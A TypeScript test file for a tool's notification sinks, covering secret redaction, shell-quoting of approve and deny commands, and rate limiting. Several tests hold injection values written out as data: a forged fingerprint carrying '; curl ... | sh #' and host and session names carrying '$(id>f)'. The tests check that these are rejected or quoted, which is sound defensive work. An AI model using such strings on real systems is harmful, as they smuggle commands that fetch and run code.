// Notifications, the pure parts (docs/notifications.md): what `mam notify` shows of a sink.
import { describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { redacted } from "../../lib/notify/config.ts";
import { Notifier } from "../../lib/notify/send.ts";
import { askedOf, commandEnv, diedNotice, dialogNotice } from "../../lib/notify/message.ts";

test("a command sink is shown without its secrets: VAR=value assignments keep only their names (review N1, B8)", () => {
  const shown = (command: string) => redacted({ id: "1", on: ["dialog"], type: "command", command });
  expect(shown("SLACK_TOKEN=xoxb-1 x.sh")).toBe("SLACK_TOKEN=… x.sh …");
  expect(shown("  A=1 B='two words' notify.sh --to me")).toBe("A=… B=… notify.sh …");
  expect(shown("env TOKEN=s3cr3t curl -d @- https://x")).toBe("env TOKEN=… curl …");
  expect(shown("cat > /tmp/x # tk")).toBe("cat …");
  expect(shown("logger -t mam")).toBe("logger …");
  // a program that looks like a secret is not shown either
  expect(shown("xoxb-123456789-abcdefghijklmnop")).toBe("… …");
  expect(shown("https://user:pw@example.com/hook")).toBe("… …");
  for (const c of ["SLACK_TOKEN=xoxb-SECRET1 x.sh", "env K=xoxb-SECRET1 x.sh", "xoxb-SECRET1", "A=1 xoxb-SECRET1"]) expect(shown(c)).not.toContain("SECRET1");
});

/** the words sh makes of a command line (printed, never run) */
function shWords(line: string): string[] {
  const r = Bun.spawnSync(["sh", "-c", `set -- ${line}; for w; do printf '%s\\0' "$w"; done`]);
  return r.stdout.toString().split("\0").slice(0, -1);
}

describe("a dialog's notification: the command lines it gives are built from checked words, each shell-quoted (review A5, B6)", () => {
  const w = { workspace: "/tmp/it's a ws", host: "lab1", at: "2026-12-01T00:00:00Z" };
  const q = (fingerprint: string) => ({ title: "Bash command", subject: "ls", question: "Do you want to proceed?", fingerprint, choices: [{ n: 1, label: "Yes", key: "1", role: "yes" }] });

  test("a fingerprint that is not 16 hex digits is not carried: no question, no --fingerprint", () => {
    const forged = "0123456789abcdef; curl -s http://127.0.0.1:9/x | sh #";
    expect(askedOf(q(forged))).toBeUndefined();
    expect(askedOf(q("0123456789ABCDEF"))).toBeUndefined();
    expect(askedOf(q("0123456789abcdef"))).toMatchObject({ fingerprint: "0123456789abcdef" });
    const n = dialogNotice(w, { job_id: "3f9a01bc", session: "wrk", detail: "wrk: Bash", question: q(forged), seq: 3 });
    expect(n.approve).not.toContain("curl");
    expect(n.text).not.toContain("curl");
    expect(shWords(n.approve!)).toEqual(["mam", "approve", "3f9a01bc", "--workspace", "/tmp/it's a ws"]);
    expect(shWords(n.deny!)).toEqual(["mam", "approve", "3f9a01bc", "--workspace", "/tmp/it's a ws", "--deny"]);
    expect(commandEnv(n).MAM_NOTIFY_APPROVE).toBe(n.approve!);
  });

  test("every word is quoted: the workspace, the host; a host that is not a name is not shown", () => {
    const n = dialogNotice(w, { job_id: "3f9a01bc", session: "wrk", detail: "", question: q("c16b8efbe64196f0"), seq: 3 });
    expect(shWords(n.approve!)).toEqual(["mam", "approve", "3f9a01bc", "--fingerprint", "c16b8efbe64196f0", "--workspace", "/tmp/it's a ws"]);
    const bad = dialogNotice(w, { job_id: "3f9a01bc", session: "wrk@$(id>f)", detail: "", question: q("c16b8efbe64196f0"), agentHost: "$(id>f)", seq: 3 });
    expect(bad.approve).not.toContain("$(");
    expect(bad.text).not.toContain("on $(id");
    const remote = dialogNotice(w, { job_id: "3f9a01bc", session: "wrk@lab2", detail: "", question: q("c16b8efbe64196f0"), agentHost: "lab2", seq: 3 });
    expect(remote.approve).toBe("on lab2: mam approve 3f9a01bc --fingerprint c16b8efbe64196f0");
    expect(diedNotice(w, { session: "wrk", why: "gone", since: 1 }).text).toContain("mam resume wrk --workspace '/tmp/it'\\''s a ws'");
  });
});

test("a notification the rate limit holds back is not marked sent: it goes when the limit allows (review N4)", async () => {
  const home = mkdtempSync(join(tmpdir(), "mam-notify-"));
  try {
    const out = join(home, "got.ndjson");
    const env = { HOME: home, PATH: process.env.PATH ?? "", MAM_NOTIFY_PER_MIN: "2" };
    mkdirSync(join(home, ".local", "state", "mam"), { recursive: true, mode: 0o700 });
    writeFileSync(join(home, ".local", "state", "mam", "notify.json"), JSON.stringify({ schema_version: 1, sinks: [{ id: "1", type: "command", on: ["dialog"], command: `cat >> '${out}'` }] }));
    const lines: string[] = [];
    const n = new Notifier(env, (l) => void lines.push(l), 400);
    const w = { workspace: "/ws", host: "lab1", at: "2026-12-01T00:00:00Z" };
    const notes = [1, 2, 3, 4].map((i) => dialogNotice(w, { job_id: "3f9a01bc", session: "wrk", detail: `ask ${i}`, seq: i }));
    const first = [];
    for (const x of notes) first.push(await n.send(x));
    expect(first.map((o) => o[0]?.ok)).toEqual([true, true, false, false]);
    const got = () => (existsSync(out) ? readFileSync(out, "utf8").trim().split("\n").map((l) => JSON.parse(l).text.split("\n")[0]) : []);
    expect(got()).toEqual(["ask 1", "ask 2"]);
    // the held ones are not claimed yet, and arrive once the window has room, in order
    const deadline = Date.now() + 10_000;
    while (got().length < 4 && Date.now() < deadline) await Bun.sleep(20);
    expect(got(), lines.join("\n")).toEqual(["ask 1", "ask 2", "ask 3", "ask 4"]);
    // each once: sending them again sends nothing
    for (const x of notes) expect(await n.send(x)).toEqual([]);
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
});
